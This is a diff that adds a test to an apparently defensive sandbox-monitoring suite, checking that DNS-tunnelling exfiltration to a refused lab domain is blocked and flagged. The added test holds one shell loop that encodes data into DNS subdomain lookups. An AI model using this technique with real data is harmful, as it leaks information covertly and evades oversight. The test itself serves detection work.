@@ -341,6 +341,17 @@ def test_dns_exfiltration_under_an_allowed_wildcard_stops_within_1kb(
     assert all(q.pid is not None for q in queries[:20])
 
 
+def test_dns_exfil_attempt_through_refused_names_is_reported(
+        lab: Lab, make_session: Callable[..., Session]) -> None:
+    session = make_session(LAB_POLICY, lab=True)
+    start = len(lab.dns_log())
+    session.exec("for c in $(head -c 200 /dev/urandom | od -An -tx1 | tr -d ' \\n' | fold -w 60);"
+                 " do getent hosts $c.x.denied.lab.test; done; true", call_id="tries")
+    assert not any("denied.lab.test" in line for line in lab.dns_log()[start:])
+    verdict = [v for v in session.verdicts if v.rule_id == "tunnels.dns_exfil"]
+    assert verdict and verdict[0].call_id == "tries" and verdict[0].severity.name == "MEDIUM"
+
+
 def test_sni_names_go_through_the_same_budget(lab: Lab,
                                                make_session: Callable[..., Session]) -> None:
     session = make_session(LAB_POLICY, lab=True)
